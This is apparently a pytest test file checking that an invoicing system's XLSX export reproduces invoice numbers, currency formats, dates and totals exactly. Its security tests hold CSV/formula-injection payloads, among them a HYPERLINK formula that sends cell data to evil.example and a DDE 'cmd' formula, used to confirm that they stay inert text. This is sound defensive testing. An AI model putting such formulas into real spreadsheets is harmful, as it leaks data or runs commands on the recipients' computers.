"""The XLSX rendering, read back with openpyxl: real numbers equal to the Document, inert text, readable."""

import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from invoices.document.currencies import find_currency
from invoices.document.model import Adjustment, Document, RenderOptions
from invoices.document.validation import read_request
from invoices.i18n.formatting import NumberFormat
from invoices.i18n.labels import labels_for, unit_text
from invoices.renderers.xlsx import CONTENT_TYPE, money_format, render_xlsx
from tests.invoices.en16931_samples import (
    credit_note_document,
    jpy_document,
    long_document,
    rich_document,
)
from tests.invoices.en16931_samples import line as sample_line
from tests.payloads import sample_payload, without_totals

# The sample invoices are in English: every word is compared with the English labels, so the tests hold
# whatever an English catalog might one day say.
EN = labels_for("en")
HEADER = [
    EN.sku,
    EN.description,
    EN.quantity,
    EN.unit,
    EN.unit_price,
    EN.discount_percent,
    EN.tax_percent,
    EN.net,
]
TOTAL_EUR = f"{EN.total} (EUR)"
FORMULA_PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']


def render(payload: dict[str, Any]) -> tuple[Document, Worksheet, bytes]:
    options, document = read_request(payload)
    content = render_xlsx(document, options).content
    return document, openpyxl.load_workbook(io.BytesIO(content)).active, content


def number(cell: Cell) -> Decimal:
    """The cell's number as Decimal; repr() of a float is the shortest text that reads back as it."""
    assert cell.data_type == "n"
    assert isinstance(cell.value, int | float)
    return Decimal(repr(cell.value))


def find(sheet: Worksheet, text: str) -> Cell:
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value == text:
                return cell
    raise AssertionError(f"{text!r} not in the sheet")


def total_row(sheet: Worksheet, label: str) -> int:
    """The row of a total by its label in column G (the tax breakdown's headings use some of the words)."""
    for row in range(1, sheet.max_row + 1):
        if sheet.cell(row, 7).value == label:
            return row
    raise AssertionError(f"{label!r} is not a total")


def money_digits(number_format: str) -> list[str]:
    """The digit placeholders of each section of a number format, its quoted literals left out:
    '#,##0.00" €";"-"#,##0.00" €"' -> ['#,##0.00', '#,##0.00']."""
    return [re.sub(r'"[^"]*"|\\.', "", section) for section in number_format.split(";")]


@pytest.fixture(scope="module")
def sample() -> tuple[Document, Worksheet, bytes]:
    return render(sample_payload())


def test_rendered_file(sample_document):
    rendered = render_xlsx(sample_document, RenderOptions(format="xlsx"))
    assert rendered.filename == "INV-2026-0042.xlsx"
    assert rendered.content_type == CONTENT_TYPE
    assert zipfile.is_zipfile(io.BytesIO(rendered.content))


def test_line_table_holds_the_documents_numbers(sample):
    document, sheet, _ = sample
    header = find(sheet, EN.sku).row
    assert [sheet.cell(header, column).value for column in range(1, 9)] == HEADER
    for row, amount in enumerate(document.lines, start=header + 1):
        line = amount.line
        assert sheet.cell(row, 1).value == line.sku
        assert sheet.cell(row, 2).value == line.description
        assert number(sheet.cell(row, 3)) == line.quantity
        assert number(sheet.cell(row, 5)) == line.unit_price
        assert number(sheet.cell(row, 6)) == line.discount_percent
        assert number(sheet.cell(row, 7)) == line.tax_rate
        assert number(sheet.cell(row, 8)) == amount.net
    shipping = find(sheet, EN.shipping)
    assert sheet.cell(shipping.row, 1).value == EN.charge
    assert number(sheet.cell(shipping.row, 8)) == document.data.charges[0].amount


def test_tax_breakdown_and_totals_are_the_documents(sample):
    document, sheet, _ = sample
    first = find(sheet, EN.tax_breakdown).row + 1
    for row, group in enumerate(document.totals.tax_groups, start=first):
        assert [number(sheet.cell(row, column)) for column in (6, 7, 8)] == [
            group.rate,
            group.base,
            group.tax,
        ]
    totals = document.totals
    for label, expected in [
        (EN.subtotal, totals.lines_net),
        (EN.charges, totals.charges),
        (EN.net_total, totals.net),
        (EN.tax, totals.tax),
        (TOTAL_EUR, totals.gross),
    ]:
        assert number(sheet.cell(total_row(sheet, label), 8)) == expected


def test_money_cells_use_the_currency_format(sample):
    document, sheet, _ = sample
    total = sheet.cell(total_row(sheet, TOTAL_EUR), 8).number_format
    # English to a buyer in Germany: CLDR's en-DE writes the symbol after the number, as Germans do.
    assert document.data.locale == "en-DE"
    assert total == '#,##0.00"\xa0€";"-"#,##0.00"\xa0€"'
    first_line = find(sheet, EN.sku).row + 1
    assert sheet.cell(first_line, 8).number_format == total
    assert money_digits(sheet.cell(first_line, 5).number_format) == ["#,##0.000"] * 2  # 12.345 a TB
    assert sheet.cell(first_line, 3).number_format == "#,##0.0"  # quantities stay plain numbers


@pytest.mark.parametrize(
    ("currency", "expected"), [("JPY", "#,##0"), ("KWD", "#,##0.000"), ("CLF", "#,##0.0000")]
)
def test_number_format_follows_the_currencys_minor_units(currency, expected):
    document, sheet, _ = render(without_totals(currency=currency))
    total = sheet.cell(total_row(sheet, f"{EN.total} ({currency})"), 8)
    assert money_digits(total.number_format) == [expected, expected]
    assert number(total) == document.totals.gross


@pytest.mark.parametrize(
    ("locale", "currency"),
    [
        ("en", "KWD"),
        ("en", "CHF"),
        ("en", "USD"),
        ("de", "EUR"),
        ("de-CH", "CHF"),
        ("nl", "EUR"),
        ("ja", "JPY"),
    ],
)
def test_the_currency_stands_beside_the_amount_as_the_pdf_prints_it(locale, currency):
    # CLDR's currency spacing: a symbol ending in a letter gets a no-break space before the digits, so
    # English KWD amounts read "KWD 616.261" (the format said "KWD616.261"), "$616.26" stays as it is.
    found = find_currency(currency)
    assert found is not None
    fmt = NumberFormat(locale, found)
    positive, negative = money_format(fmt, 2).split(";")
    for section, amount in ((positive, Decimal("616.26")), (negative, Decimal("-616.26"))):
        before, after = (literal.replace('"', "") for literal in section.split("#,##0.00"))
        printed = fmt.money(amount)
        digits = re.search(r"\d[\d.,\u00a0\u202f']*\d", printed)
        assert digits is not None
        assert (printed[: digits.start()], printed[digits.end() :]) == (before, after), printed


def test_large_amounts_survive_the_spreadsheet_exactly():
    line = {"description": "x", "quantity": "1", "unit_price": "999999999999.99"}
    document, sheet, _ = render(without_totals(lines=[line], shipping=None))
    assert (
        number(sheet.cell(total_row(sheet, TOTAL_EUR), 8))
        == document.totals.gross
        == Decimal("999999999999.99")
    )


def test_dates_are_real_dates(sample):
    _, sheet, _ = sample
    issue = sheet.cell(find(sheet, EN.issue_date).row, 2)
    assert issue.value == datetime(2026, 11, 23)
    assert issue.number_format == "yyyy-mm-dd"


def test_header_is_bold_frozen_and_printed_on_every_page(sample):
    _, sheet, _ = sample
    header = find(sheet, EN.sku)
    assert all(sheet.cell(header.row, column).font.b for column in range(1, 9))
    assert sheet.freeze_panes == f"A{header.row + 1}"
    assert sheet.print_title_rows == f"${header.row}:${header.row}"
    assert sheet.column_dimensions["B"].width >= 40


def test_parties_notes_and_payment_are_shown(sample):
    _, sheet, _ = sample
    for text in [
        "Nuage Informatique SAS",
        "Müller & Söhne GmbH",
        "Müller & Söhne Lager",
        f"{EN.tax_id}: DE136695976",
        "Please quote the invoice number with your payment.",
        "FR7630006000011234567890189",  # stored compact; only the PDF groups it in fours for reading
        "Net 30",
    ]:
        find(sheet, text)


@pytest.mark.parametrize(("page_size", "paper"), [("A4", 9), ("letter", 1)])
def test_page_size_sets_the_paper(sample_document, page_size, paper):
    content = render_xlsx(sample_document, RenderOptions(format="xlsx", page_size=page_size)).content
    assert openpyxl.load_workbook(io.BytesIO(content)).active.page_setup.paperSize == paper


def formula_payload() -> dict[str, Any]:
    payload = without_totals(number="=1+1", notes="\n".join(FORMULA_PAYLOADS), payment_terms="@terms")
    payload["invoice"]["seller"]["name"] = "=cmd|' /C calc'!A0"
    for line, text in zip(payload["invoice"]["lines"], FORMULA_PAYLOADS, strict=False):
        line.update(sku=text[:64], description=text, unit="+1")
    return payload


@pytest.mark.security
def test_formula_payloads_stay_inert_text():
    _, sheet, content = render(formula_payload())
    risky = [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]
    assert {cell.value for cell in risky} >= {*FORMULA_PAYLOADS, "=1+1", "+1", "@terms", "=cmd|' /C calc'!A0"}
    for cell in risky:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)


@pytest.mark.security
def test_error_lookalikes_stay_text():
    _, sheet, _ = render(without_totals(notes="#N/A"))
    assert find(sheet, "#N/A").data_type == "s"


def test_a_thousand_lines_render():
    line = {"description": "x", "quantity": "1", "unit_price": "1.10", "tax_rate": "20"}
    document, sheet, _ = render(without_totals(lines=[line] * 1000))
    assert number(sheet.cell(total_row(sheet, TOTAL_EUR), 8)) == document.totals.gross


# --- EN 16931 additions (issue 16) ---------------------------------------------------------------------


def render_document(document: Document) -> Worksheet:
    content = render_xlsx(document, RenderOptions(format="xlsx")).content
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.fixture(scope="module")
def rich() -> tuple[Document, Worksheet]:
    document = rich_document()
    return document, render_document(document)


def test_an_invoice_without_new_features_keeps_the_eight_columns(sample):
    _, sheet, _ = sample
    header = find(sheet, EN.sku).row
    assert sheet.cell(header, len(HEADER) + 1).value is None


def test_the_line_table_grows_the_columns_the_invoice_needs(rich):
    document, sheet = rich
    header = find(sheet, EN.sku).row
    headings = [sheet.cell(header, column).value for column in range(1, 15)]
    assert headings == [
        *HEADER,
        EN.price_per,
        EN.allowances,
        EN.charges,
        EN.adjustment_reasons,
        EN.tax_category,
        None,
    ]
    rows = list(range(header + 1, header + 6))
    consulting, screws, cable = rows[:3]
    assert sheet.cell(consulting, 4).value == "h"
    assert sheet.cell(consulting, 6).value is None  # not one plain discount: the amounts say it
    assert [number(sheet.cell(consulting, c)) for c in (8, 10, 11)] == [
        Decimal("1093.75"),
        Decimal("118.75"),
        Decimal("25"),
    ]
    assert sheet.cell(consulting, 12).value == "Volume discount 10%; Travel"
    assert sheet.cell(screws, 4).value == unit_text(EN, "C62", "C62", Decimal(1500)) == "pcs"
    assert number(sheet.cell(screws, 9)) == 100
    assert number(sheet.cell(cable, 11)) == Decimal("6.8")
    assert [sheet.cell(row, 13).value for row in rows] == ["S", "S", "S", "AE", "E"]
    for amount, row in zip(document.lines, rows, strict=True):
        assert number(sheet.cell(row, 8)) == amount.net


def test_document_allowances_and_charges_follow_the_lines_signed_so_the_net_column_adds_up(rich):
    document, sheet = rich
    early = find(sheet, "Early order")
    assert sheet.cell(early.row, 1).value == EN.discount
    assert number(sheet.cell(early.row, 6)) == 2  # the percentage
    assert number(sheet.cell(early.row, 8)) == Decimal("-64.13")
    assert number(sheet.cell(find(sheet, "Loyalty").row, 8)) == Decimal("-50")
    shipping = find(sheet, EN.shipping)
    assert (sheet.cell(shipping.row, 1).value, number(sheet.cell(shipping.row, 8))) == (EN.charge, 15)
    header = find(sheet, EN.sku).row
    net_column = [number(sheet.cell(row, 8)) for row in range(header + 1, shipping.row + 1)]
    assert sum(net_column) == document.totals.net


def test_totals_show_allowances_charges_prepaid_rounding_and_the_amount_due(rich):
    document, sheet = rich
    totals = document.totals
    expected = [
        (EN.subtotal, totals.lines_net),
        (EN.allowances, -totals.allowances),
        (EN.charges, totals.charges),
        (EN.net_total, totals.net),
        (EN.tax, totals.tax),
        (TOTAL_EUR, totals.gross),
        (EN.prepaid, -totals.prepaid),
        (EN.rounding, totals.rounding),
        (f"{EN.amount_due} (EUR)", totals.payable),
    ]
    first = total_row(sheet, EN.subtotal)
    for offset, (label, value) in enumerate(expected):
        assert sheet.cell(first + offset, 7).value == label
        assert number(sheet.cell(first + offset, 8)) == value
    due = sheet.cell(first + len(expected) - 1, 8)
    assert due.font.b
    assert money_digits(due.number_format) == ["#,##0.00"] * 2
    assert (
        number(sheet.cell(first + 1, 8)) < 0
    )  # a negative amount shows its minus in the format's own section


def test_the_tax_breakdown_names_each_category_and_its_legal_words(rich):
    document, sheet = rich
    first = find(sheet, EN.tax_breakdown).row + 1
    for row, group in enumerate(document.totals.tax_groups, start=first):
        assert sheet.cell(row, 4).value == group.category
        assert [number(sheet.cell(row, c)) for c in (6, 7, 8)] == [group.rate, group.base, group.tax]
    notes = [sheet.cell(row, 9).value for row in range(first, first + 4)]
    assert notes == [
        f"{EN.category_names['E']}: Exempt under Article 132(1)(i) Directive 2006/112/EC",
        "Reverse charge: Article 196 Directive 2006/112/EC",  # the reason names the category: said once
        None,
        None,
    ]


def test_heading_parties_and_payment_carry_the_new_fields(rich):
    _, sheet = rich
    for text in (
        EN.billing_period,
        "04011000-12345-67",
        "PO-88213",
        "80331 München",
        "Germany",  # the country by its name in the invoice's locale
        f"{EN.vat_id}: DE129273398",
        f"{EN.tax_number}: 143/123/45678",
        f"{EN.legal_id}: HRB 123456 Amtsgericht München",
        f"{EN.contact}: Sabine Huber · s.huber@lindner.example · +49 89 1234 5671",
        EN.means_names["58"],
        "Werkzeugbau Lindner GmbH",
    ):
        find(sheet, text)
    period = find(sheet, EN.billing_period)
    assert sheet.cell(period.row, 2).value == datetime(2026, 11, 1)
    assert sheet.cell(period.row, 3).value == datetime(2026, 11, 30)


def test_a_credit_note_is_titled_so_and_names_the_invoice_it_corrects():
    sheet = render_document(credit_note_document())
    assert sheet["A1"].value == EN.credit_note
    corrects = find(sheet, EN.corrects_invoice.format(number="RE-2026-1187"))
    assert corrects.column == 1
    assert sheet.cell(corrects.row, 2).value is None  # the sentence overflows into it
    assert sheet.cell(corrects.row, 3).value == datetime(2026, 11, 30)


def test_yen_adjustments_are_whole_numbers():
    document = jpy_document()
    sheet = render_document(document)
    due = sheet.cell(total_row(sheet, f"{EN.amount_due} (JPY)"), 8)
    assert number(due) == document.totals.payable
    assert money_digits(due.number_format) == ["#,##0", "#,##0"]
    assert number(sheet.cell(find(sheet, "Coupon").row, 8)) == -500


@pytest.mark.security
def test_formula_payloads_in_reasons_stay_inert_text():
    payload = '=HYPERLINK("http://evil.example/","x")'
    document = rich_document(
        allowances=(Adjustment(amount=Decimal(1), reason=payload, tax_rate=Decimal(19)),),
        lines=(sample_line("x", "1", "10.00", charges=(Adjustment(amount=Decimal(1), reason="@SUM(A1)"),)),),
    )
    sheet = render_document(document)
    for text in (payload, "@SUM(A1)"):
        cell = find(sheet, text)
        assert cell.data_type == "s"
        assert cell.quotePrefix


def test_three_hundred_lines_with_adjustments_render():
    document = long_document(300)
    sheet = render_document(document)
    assert number(sheet.cell(total_row(sheet, f"{EN.amount_due} (EUR)"), 8)) == document.totals.payable


def test_a_partys_electronic_address_is_shown_with_its_scheme(rich):
    _, sheet = rich
    texts = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert "Electronic address: 9930:DE129273398" in texts
